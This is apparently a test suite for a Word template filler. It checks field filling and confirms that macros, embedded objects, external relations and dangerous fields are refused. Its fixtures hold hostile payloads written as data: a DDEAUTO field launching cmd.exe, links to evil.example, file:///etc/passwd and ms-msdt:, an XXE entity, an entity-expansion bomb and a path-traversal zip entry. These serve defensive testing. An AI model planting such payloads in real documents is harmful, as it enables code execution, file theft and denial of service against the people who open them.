import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { WordData } from '@auditplus/core/print/word.ts';
import { zipSync } from 'fflate';
import { renderDocument } from './render-document.ts';
import { mainPart, OFFICE, paragraph, readWord, relations, wordFile } from './word.fixture.ts';
import { fillWord, inspectWord } from './word-template.ts';

const DATA: WordData = {
  main: {
    texts: { name: '清源 <水务> & 分公司', note: '第一行\n第二行' },
    flags: { isOpen: true, isClosed: false },
  },
  tables: {
    items: [
      { texts: { 'items.no': '1', 'items.price|money': '1,200.00' }, flags: { 'items.isLate': true } },
      { texts: { 'items.no': '2', 'items.price|money': '3.50' }, flags: { 'items.isLate': false } },
    ],
    none: [],
  },
  pictures: { photos: ['one', 'gone'] },
};
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const fill = async (body: string, own: Record<string, string> = {}) =>
  fillWord(wordFile(body, own), DATA, {
    readPhoto: async (fileId) => (fileId === 'one' ? PNG : null),
    address: 'https://audit.example/verifyPrint?code=ABC',
  });
const filled = async (body: string) => readWord(await fill(body)).text;
const row = (...cells: readonly string[]) =>
  `<w:tr>${cells.map((text) => `<w:tc>${paragraph(text)}</w:tc>`).join('')}</w:tr>`;

test('fields are filled in wherever Word has cut them into runs, and no value is read as markup', async () => {
  assert.equal(
    await filled(paragraph('单位：{na', 'me', '}。') + paragraph('{note}')),
    '单位：清源 <水务> & 分公司。\n第一行\n第二行',
  );
});

test('parts are repeated by rows, in tables too, and shown on conditions', async () => {
  const table = `<w:tbl>${row('序号', '金额')}${row('{#items}{items.no}', '{items.price|money}{#items.isLate}逾期{/items.isLate}{/items}')}</w:tbl>`;
  assert.deepEqual((await filled(table)).split('\n'), ['序号', '金额', '1', '1,200.00逾期', '2', '3.50']);
  assert.equal(await filled(paragraph('{#isOpen}未关闭{/isOpen}{#isClosed}已关闭{/isClosed}')), '未关闭');
  assert.equal(await filled(paragraph('共{#none}某{/none}')), '共');
});

test('pictures and the code of the print stand in the document', async () => {
  const made = await fill(
    paragraph('{#photos}{photos.picture [height: 30]}{/photos}') + paragraph('{verifyPicture}'),
  );
  const { names } = readWord(made);
  assert.deepEqual(names.filter((name) => name.startsWith('word/media/')).length, 2);
});

test('tags are told with the parts around them', async () => {
  const found = await inspectWord(wordFile(paragraph('{name}{#items}{items.no}{/items}')));
  assert.deepEqual(found, {
    tags: [
      { tag: 'name', isPart: false, within: [] },
      { tag: 'items', isPart: true, within: [] },
      { tag: 'items.no', isPart: false, within: ['items'] },
    ],
  });
});

const rels = (inside: string) => ({ 'word/_rels/document.xml.rels': relations(inside) });
const external = (type: string, target: string) =>
  rels(`<Relationship Id="rId9" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/>`);
const field = (...codes: readonly string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${codes.map((code) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const BODY = paragraph('{name}');
const whole = (main: string) => wordFile('', { 'word/document.xml': main });
const XXE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
const LAUGHS = `<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">${'bcdefgh'.replace(/./g, (name) => `<!ENTITY ${name} "${'&a;'.repeat(10)}">`)}]>`;

const UNSAFE: readonly [name: string, what: string, file: Buffer][] = [
  ['a macro project', 'macros', wordFile(BODY, { 'word/vbaProject.bin': 'x' })],
  ['data of macros', 'macros', wordFile(BODY, { 'word/vbaData.xml': '<x/>' })],
  ['a ribbon of its own', 'macros', wordFile(BODY, { 'customUI/customUI.xml': '<x/>' })],
  ['an ActiveX control', 'macros', wordFile(BODY, { 'word/activeX/activeX1.xml': '<x/>' })],
  [
    'a macro-enabled content type',
    'macros',
    wordFile(BODY, {
      '[Content_Types].xml': '<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    }),
  ],
  ['an OLE object', 'embedded', wordFile(BODY, { 'word/embeddings/oleObject1.bin': 'x' })],
  ['an embedded workbook', 'embedded', wordFile(BODY, { 'word/embeddings/book.xlsx': 'x' })],
  ['an embedded document elsewhere', 'embedded', wordFile(BODY, { 'word/other.docx': 'x' })],
  ['a page to be merged', 'embedded', wordFile(BODY, { 'word/afchunk.html': 'x' })],
  ['an archive of pages', 'embedded', wordFile(BODY, { 'word/chunk.mht': 'x' })],
  ['a picture that can run', 'embedded', wordFile(BODY, { 'word/media/image1.svg': '<svg/>' })],
  ['a merged part', 'embedded', wordFile(`${BODY}<w:altChunk r:id="rId9"/>`)],
  [
    'a relation to an object',
    'embedded',
    wordFile(BODY, rels(`<Relationship Id="r" Type="${OFFICE}/oleObject" Target="x"/>`)),
  ],
  [
    'a relation to a package',
    'embedded',
    wordFile(BODY, rels(`<Relationship Id="r" Type="${OFFICE}/package" Target="x"/>`)),
  ],
  [
    'a part of another document',
    'embedded',
    wordFile(BODY, rels(`<Relationship Id="r" Type="${OFFICE}/subDocument" Target="x"/>`)),
  ],
  [
    'a template elsewhere',
    'embedded',
    wordFile(BODY, external('attachedTemplate', 'https://evil.example/t.dotm')),
  ],
  ['a picture elsewhere', 'external', wordFile(BODY, external('image', 'https://evil.example/track.png'))],
  ['a picture on a share', 'external', wordFile(BODY, external('image', '\\\\evil\\share\\x.png'))],
  ['a link to a file', 'external', wordFile(BODY, external('hyperlink', 'file:///etc/passwd'))],
  ['a link that is a script', 'external', wordFile(BODY, external('hyperlink', 'javascript:alert(1)'))],
  ['a link to a program', 'external', wordFile(BODY, external('hyperlink', 'ms-msdt:/id PCWDiagnostic'))],
  [
    'a relation written in entities',
    'external',
    wordFile(
      BODY,
      rels(
        `<Relationship Id="r" Type="${OFFICE}/image" Target="https://evil.example" TargetMode="&#69;xternal"/>`,
      ),
    ),
  ],
  [
    'a relation in single quotes',
    'external',
    wordFile(
      BODY,
      rels(
        `<Relationship Id='r' Type='${OFFICE}/image' Target='https://evil.example' TargetMode='External'/>`,
      ),
    ),
  ],
  [
    'a relation with a prefix',
    'external',
    wordFile(
      BODY,
      rels(
        `<p:Relationship xmlns:p="x" Id="r" Type="${OFFICE}/image" Target="https://evil.example" TargetMode="External"/>`,
      ),
    ),
  ],
  [
    'a relation of the header',
    'external',
    wordFile(BODY, {
      'word/_rels/header1.xml.rels': relations(
        `<Relationship Id="r" Type="${OFFICE}/image" Target="https://evil.example" TargetMode="External"/>`,
      ),
    }),
  ],
  [
    'a field that starts a program',
    'field',
    wordFile(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
  ],
  ['such a field cut into runs', 'field', wordFile(field(' DD', 'E', ' cmd '))],
  ['such a field in entities', 'field', wordFile(field(' &#68;DE cmd '))],
  ['a field that reads a file', 'field', wordFile(field(' INCLUDETEXT "c:\\\\secret.docx" '))],
  ['a field that reads a picture', 'field', wordFile(field(' INCLUDEPICTURE "https://evil.example/x.png" '))],
  ['a linked field', 'field', wordFile(field(' LINK Excel.Sheet.8 "x.xls" '))],
  ['a field put together from codes', 'field', wordFile(field(' QUOTE 68 68 69 '))],
  ['a simple field', 'field', wordFile('<w:p><w:fldSimple w:instr=" DDE cmd x "><w:r/></w:fldSimple></w:p>')],
  ['a field of a database', 'field', wordFile(field(' DATABASE \\d "x" '))],
];

const INVALID: readonly [name: string, kind: string, file: Buffer][] = [
  ['no archive', 'invalid', Buffer.from('Not a document at all'.repeat(10))],
  ['an empty file', 'invalid', Buffer.alloc(0)],
  ['a cut archive', 'invalid', wordFile(BODY).subarray(0, 200)],
  ['an archive without a document', 'invalid', Buffer.from(zipSync({ 'a.txt': Buffer.from('x') }))],
  ['a document without its main part', 'invalid', wordFile(BODY, { 'word/document.xml': '' })],
  ['entities that read files', 'invalid', whole(mainPart(BODY).replace('?>', `?>${XXE}`))],
  ['entities that grow', 'invalid', whole(mainPart(BODY).replace('?>', `?>${LAUGHS}`))],
  ['another encoding', 'invalid', whole(mainPart(BODY).replace('UTF-8', 'UTF-16'))],
  [
    'UTF-16',
    'invalid',
    wordFile('', { 'word/document.xml': Buffer.from(`\uFEFF${mainPart(BODY)}`, 'utf16le') } as never),
  ],
  [
    'bytes that are no text',
    'invalid',
    wordFile('', { 'word/document.xml': Buffer.from([0x3c, 0xff, 0xfe, 0x80]) } as never),
  ],
  ['broken markup', 'invalid', whole('<w:document><w:body>')],
  ['a name that leads out', 'invalid', wordFile(BODY, { '../../etc/cron.d/x.xml': '<x/>' })],
  [
    'a part that unpacks to 80 MB',
    'tooLarge',
    wordFile(BODY, { 'word/media/a.png': 'a'.repeat(80 * 1024 * 1024) }),
  ],
  [
    'six thousand parts',
    'tooLarge',
    wordFile(BODY, Object.fromEntries(Array.from({ length: 6_000 }, (_, n) => [`word/media/${n}.png`, 'x']))),
  ],
  ['an opened brace', 'tag', wordFile(paragraph('{name'))],
  ['a closing brace', 'tag', wordFile(paragraph('name}'))],
  ['a part without an end', 'tag', wordFile(paragraph('{#items}{items.no}'))],
  ['an end without a part', 'tag', wordFile(paragraph('{/items}'))],
  ['parts that cross', 'tag', wordFile(paragraph('{#items}{#none}{/items}{/none}'))],
  ['options that are none', 'tag', wordFile(paragraph('{photos.picture [height: x y]}'))],
  [
    'parts in parts without end',
    'tooDeep',
    wordFile(paragraph('{#items}'.repeat(20) + '{/items}'.repeat(20))),
  ],
];

test('what runs, embeds or fetches something is refused, and said', async () => {
  for (const [name, what, file] of UNSAFE)
    assert.deepEqual([name, await inspectWord(file)], [name, { fault: { kind: 'unsafe', what } }]);
});

test('what is no document, or has no sense in its tags, is refused', async () => {
  for (const [name, kind, file] of INVALID) {
    const found = await inspectWord(file);
    assert.deepEqual([name, 'fault' in found ? found.fault.kind : 'accepted'], [name, kind]);
  }
});

test('links to click, page numbers and dates are usual and stay', async () => {
  const body =
    BODY + field(' HYPERLINK "https://audit.example" ') + field(' PAGE ') + field(' DATE \\@ "yyyy-MM-dd" ');
  const found = await inspectWord(wordFile(body, external('hyperlink', 'https://audit.example')));
  assert.ok('tags' in found);
});

test('a hostile document costs a process of its own and nothing else', async () => {
  const read = async (template: Buffer) => {
    const chunks: Buffer[] = [];
    for await (const chunk of renderDocument({ kind: 'wordTags', template })) chunks.push(Buffer.from(chunk));
    return JSON.parse(Buffer.concat(chunks).toString());
  };
  const nested = `${'<w:p>'.repeat(50_000)}${'</w:p>'.repeat(50_000)}`;
  assert.equal((await read(wordFile(nested))).fault.kind, 'invalid');
  assert.deepEqual((await read(wordFile(BODY))).tags, [{ tag: 'name', isPart: false, within: [] }]);
});
